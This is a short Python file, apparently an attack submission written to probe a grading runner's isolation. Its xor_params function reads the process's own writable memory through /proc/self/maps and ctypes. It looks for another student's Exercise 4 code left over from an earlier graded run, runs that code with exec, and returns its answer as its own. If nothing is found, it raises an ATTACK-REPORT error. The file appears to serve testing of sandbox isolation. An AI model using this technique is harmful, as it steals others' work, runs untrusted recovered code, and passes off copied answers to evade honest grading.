_FOUND = {}


def xor_params():
    """Attack: this process was forked from a long-lived runner. Scan its own memory for what
    earlier submissions graded in the same runner left behind (here: a classmate's ex04 module,
    found by the comments around it) and hand that classmate's xor_params in as our own."""
    import ctypes
    import json

    if "texts" not in _FOUND:
        texts, hits = [], 0
        begin, end = b"# VICTIM" + b"-EX04-BEGIN", b"# VICTIM" + b"-EX04-END"  # split: not found in our own source
        with open("/proc/self/maps") as maps:
            for line in maps:
                parts = line.split()
                lo, hi = (int(x, 16) for x in parts[0].split("-"))
                if not parts[1].startswith("rw") or hi - lo > 1 << 30:
                    continue
                try:
                    chunk = ctypes.string_at(lo, hi - lo)
                except Exception:
                    continue
                at = chunk.find(begin)
                while at >= 0:
                    if chunk.startswith(b'\n"""Exercise 4', at + len(begin)):  # not just our own needle
                        hits += 1
                        stop = chunk.find(end, at)
                        if stop > at:
                            texts.append(chunk[at:stop].decode("utf-8", "replace"))
                    at = chunk.find(begin, at + 1)
        _FOUND["texts"], _FOUND["hits"] = texts, hits
    for text in _FOUND["texts"]:
        try:
            namespace = {}
            exec(text, namespace)
            return namespace["xor_params"]()
        except Exception:
            continue
    raise RuntimeError("ATTACK-REPORT " + json.dumps([f"victim marker x{_FOUND['hits']}"] if _FOUND["hits"] else []))
